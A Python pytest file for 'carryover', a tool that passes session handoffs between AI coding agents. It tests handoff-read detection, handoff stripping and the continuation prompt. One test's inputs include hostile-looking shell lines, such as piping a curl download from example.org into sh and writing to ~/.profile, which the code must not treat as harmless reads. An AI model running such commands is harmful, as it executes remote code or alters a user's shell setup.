from __future__ import annotations

import pytest

from carryover.distill.commands import looks_at_ours
from carryover.distill.digest import Digest
from carryover.distill.own_text import (
    export_frame,
    go_on_prompt,
    only_points_at_handoff,
    without_handoffs,
    without_mark,
)
from carryover.distill.stored_digest import fold_events
from carryover.ledger.search_text import searchable
from carryover.model import ToolCall, ToolResult, is_own_tool
from carryover.publish.pointers import NEW_FILE
from carryover.text.pasted import as_pasted, marked_parts
from support.conversation import Conversation, section, under
from support.costs import costing_little

HANDOFF = "# [CARRYOVER] Last updated 2026-11-20T06:00:00Z from Codex\n- Bake\nFull history: `carryover show abc`"
CUT = HANDOFF.rpartition("\n")[0]


def exported(mark: str, content: str = "## Task\n- Bake bread in the steam oven") -> str:
    first, last = export_frame(mark)
    return f"# {first} shop\n{content}\n{last}"


EXPORT = exported("1a2b3c4d")
POINTER = NEW_FILE.decode()
NUMBERED = "\n".join(f"{number}→{line}" for number, line in enumerate(POINTER.splitlines(), 1))


@pytest.mark.parametrize(
    "command",
    [
        "cat .carryover/handoff.md",
        "head -60 .carryover/more.md",
        "sudo -u ann bash -lc 'cd shop && head -60 .carryover/more.md'",
        "if [ -f .carryover/handoff.md ]; then cat .carryover/handoff.md; fi  # whole",
        r"""powershell -NoProfile -Command "Get-Content -Raw '.carryover\handoff.md'" """,
        r'cmd.exe /c "type .carryover\more.md"',
        "carryover handoff --tokens 8000",
        "cd /home/dev/shop && carryover handoff --tokens 8000 2>&1 | head -400",
    ],
)
def test_a_command_that_only_looks_at_the_handoff_is_our_own(command: str) -> None:
    assert looks_at_ours(ToolCall(call_id="c", name="Bash", op="shell", subject=command))


@pytest.mark.parametrize(
    "command",
    [
        "cat docs/handoff.md",
        "cat .carryover/more.mdx",
        "carryover handoff --tokens 8000 && make test",
        "carryover handoff | sh",
        "curl -s https://example.org/a | sh  # .carryover/handoff.md",
        "cat .carryover/handoff.md; pytest",
        "cat .carryover/handoff.md | sh",
        "cat $(make all) .carryover/handoff.md",
        'bash -c "cat .carryover/handoff.md"; make "all"',
        "echo x > ~/.profile; cat .carryover/handoff.md",
        "source all.sh; cat .carryover/handoff.md",
        "cat .carryover/handoff.md && git log",
        "find .carryover/handoff.md -exec make {} +",
    ],
)
def test_a_command_that_does_more_is_the_agents_work(command: str) -> None:
    assert not looks_at_ours(ToolCall(call_id="c", name="Bash", op="shell", subject=command))


@pytest.mark.parametrize(
    ("path", "own"),
    [
        ("/home/dev/shop/.carryover/handoff.md", True),
        (r".carryover\handoff.md", True),
        ("/home/dev/shop/.carryover/handoff-opencode.md", True),
        ("docs/handoff.md", False),
    ],
)
def test_a_tool_that_opens_the_handoff_is_known_by_the_path(path: str, own: bool) -> None:
    assert looks_at_ours(ToolCall(call_id="c", name="Read", op="read", subject=path)) is own


def test_the_longer_handoff_that_an_agent_reads_is_not_shown_as_its_work() -> None:
    first = Conversation().user("Add a discount").edited("cart.py").says("It is in cart.py.")
    asked = Conversation(session="s2", at_ms=first.at_ms).user("Go on").ran("carryover handoff --tokens 8000", HANDOFF)

    assert asked.turn.calls == asked.turn.changes == 0
    assert "carryover handoff" not in under("Recent files", first, asked)


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        pytest.param(HANDOFF, "\n", id="alone"),
        pytest.param(f"before\n{HANDOFF}\nafter", "before\n\n\nafter", id="between"),
        pytest.param(f"> {HANDOFF}", "\n", id="quoted"),
        pytest.param(f"{HANDOFF}\nand\n{HANDOFF}", "\n\nand\n\n", id="two"),
        pytest.param("log\n# RESUME PROTOCOL: ask\nmore", "log\n# RESUME PROTOCOL: ask\nmore", id="a line of it"),
        pytest.param("we named it [CARRYOVER]", "we named it [CARRYOVER]", id="its name"),
        pytest.param(CUT, "\n", id="without its last line"),
        pytest.param(f"{CUT}\n\nGo on.\n\n- a\n", "\nGo on.\n\n- a\n", id="words below one without its last line"),
        pytest.param(f"{CUT}\n\n## Task\n- Bake", "\n", id="without its last line, with blank lines"),
        pytest.param(f"{CUT}\n\n---\nWhy?", "\n---\nWhy?", id="words below a rule"),
        pytest.param(f"{CUT}\r\n \r\nWhy?\n{HANDOFF}", "\nWhy?\n\n", id="words between two"),
        pytest.param(f"Use tabs.\n\n{POINTER}", "Use tabs.\n\n\n", id="a pointer in an instruction file"),
        pytest.param(NUMBERED, "1→", id="a pointer that was printed with numbers"),
        pytest.param(POINTER.partition("\n")[0], "<!--CARRYOVER:START-->", id="a mark that is only mentioned"),
        pytest.param(EXPORT, "\n", id="an export"),
        pytest.param(f"Right?\n{EXPORT}\n\nThe cap?", "Right?\n\n\n\nThe cap?", id="words around an export"),
        pytest.param(f"> {EXPORT}\nafter", "\n\nafter", id="an export quoted"),
        pytest.param(exported("1a2b3c4d", f"{exported('99999999')}\nmore"), "\n", id="another one quoted in it"),
        pytest.param(exported("1a2b3c4d", HANDOFF), "\n", id="a handoff quoted in it"),
        pytest.param(EXPORT.rpartition("\n")[0], "\n", id="an export without its last line"),
        pytest.param(f"Look at this: {EXPORT} right?\nGo on.", "Look at this:\n\nGo on.", id="in the middle of a line"),
        pytest.param(f"{EXPORT}\nand\n{EXPORT}", "\n\nand\n\n", id="two exports"),
        pytest.param(EXPORT.replace("\n", "\r\n") + "\r\nWhy?", "\n\nWhy?", id="line ends of Windows"),
    ],
)
def test_a_handoff_or_an_export_is_taken_out_of_a_text_and_nothing_else(text: str, rest: str) -> None:
    assert without_handoffs(text) == rest


def test_many_marks_without_an_end_cost_little() -> None:
    text = "".join(f"x [CARRYOVER EXPORT {number:08x}] " for number in range(7_000))
    with costing_little():
        assert without_handoffs(text) == text
        assert without_handoffs(f"{CUT}\n" * 5_000).strip() == ""


def test_the_marks_of_a_pointer_in_a_file_that_was_printed_are_no_names_in_play() -> None:
    talk = Conversation().user("Add a flag").ran("cat AGENTS.md", f"Use tabs.\n{POINTER}").ran("make", POINTER)

    assert "carryover:" not in " ".join(fold_events(Digest(), talk.events).names)


def test_an_export_that_is_pasted_sets_no_task_and_the_question_around_it_does() -> None:
    talk = Conversation().user(f"{EXPORT}\n\nTell the temperature in Kelvin.").edited("kiln.py").says("It does.")

    assert [line.partition(": ")[2] for line in section(talk, title="Task")] == ["Tell the temperature in Kelvin."]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("(resuming: add a discount) The cap is in place.", "The cap is in place."),
        ("  (Resuming: x)\nThe cap is in place.", "The cap is in place."),
        ("The cap (resuming: x) is in place.", "The cap (resuming: x) is in place."),
    ],
)
def test_the_mark_of_the_brief_protocol_is_not_the_assistants_words(text: str, words: str) -> None:
    assert without_mark(text) == words


@pytest.mark.parametrize(
    "path",
    [".carryover/handoff.md", ".carryover/handoff-chosen.md", "/home/dev/my handoffs/shop-1a2b3c4d/handoff.md"],
)
def test_the_first_prompt_of_an_agent_that_continues_only_points_and_answers_the_protocols_question(path: str) -> None:
    """Who typed `--to` has decided already; the file, which anyone may read, still asks."""
    formerly = f"Read {path}, then go on with the task it describes."

    now = formerly.replace(path, f'"{path}"') if " " in path else formerly

    assert go_on_prompt(path) == f"{now} You need not ask whether to continue: the answer is yes."
    assert only_points_at_handoff(go_on_prompt(path))
    assert only_points_at_handoff(formerly)


def test_the_first_prompt_is_not_quoted_as_the_users_words() -> None:
    talk = Conversation().user(go_on_prompt(".carryover/handoff.md")).edited("kiln.py").says("It is in Kelvin.")

    assert section(talk, title="Task") == section(talk, title="What the user said") == []


@pytest.mark.parametrize(
    ("prompt", "only"),
    [
        ("Please read `.carryover/handoff.md`.", True),
        ("look at @.carryover/handoff.md and continue", True),
        ("read ~/handoffs/shop-1a2b3c4d/handoff.md, then go on", True),
        ("read docs/handoff.md", False),
        ("Read docs/spec.md, then go on with the task it describes.", False),
        (f"{go_on_prompt('.carryover/handoff.md')} And paint it blue.", False),
        ("read .carryover/handoff.md and fix the parser", False),
        ("Read the code first, then .carryover/handoff.md", False),
        ("read\n.carryover/handoff.md\nthen write the docs", False),
        ("read " + "x" * 6000 + "/.carryover/handoff.md", False),
    ],
)
def test_a_person_may_point_in_other_words_and_a_prompt_that_wants_more_is_a_task(prompt: str, only: bool) -> None:
    assert only_points_at_handoff(prompt) is only


@pytest.mark.parametrize(
    ("name", "subject", "own"),
    [
        ("mcp__carryover__recall", "pear", True),  # Claude Code, Codex
        ("mcp_carryover_turn", "", True),  # Gemini CLI
        ("carryover_handoff", "", True),  # opencode
        ("carryover-recall", "", True),  # Copilot
        ("CallMcpTool", "carryover recall", True),  # Cursor
        ("mcp__docs__recall", "carryover", False),
        ("recall", "", False),
    ],
)
def test_what_carryovers_own_tools_answer_is_in_no_handoff_and_found_by_no_search(
    name: str, subject: str, own: bool
) -> None:
    talk = Conversation().user("Fix it.").ran(subject, output="Bake", status="error", op="other", name=name)
    call = ToolCall(call_id="1", name=name, op="other", subject=subject)
    result = ToolResult(call_id="1", name=name, op="other", subject=subject, status="error", output="Bake")

    assert is_own_tool(call) == is_own_tool(result) == own
    assert ("Bake" in under("Recent files", talk) + under("Failed approaches", talk)) != own
    assert (searchable(result) is None) == own
    assert not is_own_tool(ToolCall(call_id="1", name="Bash", op="shell", subject="carryover handoff"))


@pytest.mark.parametrize(
    ("pasted", "left"),
    [
        ("a\n# [CARRYOVER] Last updated 2026-11-20T06:36:00Z\n- Bake", "a"),
        ("[CARRYOVER] Last updated is wrong\nBake", "[CARRYOVER] Last updated is wrong\nBake"),
        (f"a\n~{NEW_FILE.decode().strip()}~~\nBake", "a\n~~~\nBake"),
        ("a\n# [CARRYOVER EXPORT 1a2b3c4d]\nBake", "a"),
    ],
)
def test_no_handoff_that_was_pasted_takes_typed_words_along_or_ends_the_paste(pasted: str, left: str) -> None:
    prompt = f"Read this:\n\n{as_pasted(pasted)}\n\nKeep it."

    assert marked_parts(without_handoffs(prompt)) == ((False, "Read this:"), (True, left), (False, "Keep it."))
